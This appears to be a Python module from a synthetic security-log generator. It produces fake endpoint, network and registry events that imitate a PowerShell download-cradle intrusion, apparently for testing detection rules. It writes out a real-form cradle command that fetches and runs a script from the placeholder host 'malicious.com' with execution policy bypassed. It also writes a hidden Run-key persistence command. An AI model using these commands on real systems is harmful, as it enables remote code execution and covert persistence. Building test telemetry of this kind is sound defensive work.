"""Command and scripting interpreter (T1059): PowerShell download cradle."""

from datetime import datetime
from typing import List

from ..builder.events import (
    AuthenticationEvent,
    FileEvent,
    NetworkEvent,
    ProcessEvent,
    RegistryEvent,
    SecurityEvent,
)
from .base import SlotContext, TemplateSlot, minutes

PAYLOAD_HOST = "192.168.100.50"
PAYLOAD_DOMAIN = "malicious.com"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{PAYLOAD_DOMAIN}/script.ps1')"


def _powershell_pid(ctx: SlotContext) -> int:
    return ctx.remember("powershell_pid", ctx.values.pid)


def _script_path(ctx: SlotContext) -> str:
    return f"C:\\Users\\{ctx.user}\\AppData\\Local\\Temp\\temp_script.ps1"


def powershell_start(ctx: SlotContext, ts: datetime) -> ProcessEvent:
    return ProcessEvent(
        **ctx.envelope(ts, "endpoint.events.process", "process-started"),
        process_name="powershell.exe",
        pid=_powershell_pid(ctx),
        ppid=ctx.remember("cmd_pid", ctx.values.pid),
        command_line=f"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"{CRADLE}\"",
        executable="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        parent_name="cmd.exe",
    )


def payload_download(ctx: SlotContext, ts: datetime) -> NetworkEvent:
    return NetworkEvent(
        **ctx.envelope(ts, "network.flows", "network-connection"),
        source_ip=ctx.remember("host_ip", ctx.values.generate_internal_ip),
        source_port=ctx.values.ephemeral_port(),
        destination_ip=PAYLOAD_HOST,
        destination_port=80,
        destination_domain=PAYLOAD_DOMAIN,
        protocol="http",
        bytes=ctx.values.size(2_000, 80_000),
        process_name="powershell.exe",
        pid=_powershell_pid(ctx),
    )


def script_drop(ctx: SlotContext, ts: datetime) -> FileEvent:
    return FileEvent(
        **ctx.envelope(ts, "endpoint.events.file", "file-created"),
        file_name="temp_script.ps1",
        file_path=_script_path(ctx),
        size=ctx.values.size(1_000, 20_000),
        extension="ps1",
        md5=ctx.values.md5(),
        process_name="powershell.exe",
        pid=_powershell_pid(ctx),
    )


def explicit_credential_logon(ctx: SlotContext, ts: datetime) -> AuthenticationEvent:
    return AuthenticationEvent(
        **ctx.envelope(ts, "security", "explicit-credential-logon",
                       message="A logon was attempted using explicit credentials"),
        event_id=4648,
        outcome="success",
        target_user="SYSTEM",
        process_name="powershell.exe",
        pid=_powershell_pid(ctx),
    )


def run_key_persistence(ctx: SlotContext, ts: datetime) -> RegistryEvent:
    return RegistryEvent(
        **ctx.envelope(ts, "endpoint.events.registry", "registry-value-set"),
        key="HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        value="SystemUpdate",
        data=(f"powershell.exe -WindowStyle Hidden -File {_script_path(ctx)}",),
        process_name="powershell.exe",
        pid=_powershell_pid(ctx),
    )


def behavioral_anomaly(ctx: SlotContext, ts: datetime) -> SecurityEvent:
    return SecurityEvent(
        **ctx.envelope(ts, "endpoint.behavioral", "behavioral-anomaly",
                       message="Anomalous PowerShell behavior detected"),
        event_category="intrusion_detection",
        severity=7,
        rule_name="Behavioral: Suspicious PowerShell Activity",
        process_name="powershell.exe",
        pid=_powershell_pid(ctx),
        technique_name="PowerShell",
        anomaly_score=0.95,
    )


def scripting_template(ctx: SlotContext) -> List[TemplateSlot]:
    return [
        TemplateSlot("powershell_start", minutes(10), powershell_start),
        TemplateSlot("payload_download", minutes(8), payload_download),
        TemplateSlot("script_drop", minutes(6), script_drop),
        TemplateSlot("explicit_credential_logon", minutes(4), explicit_credential_logon),
        TemplateSlot("run_key_persistence", minutes(2), run_key_persistence),
        TemplateSlot("behavioral_anomaly", minutes(1), behavioral_anomaly),
    ]
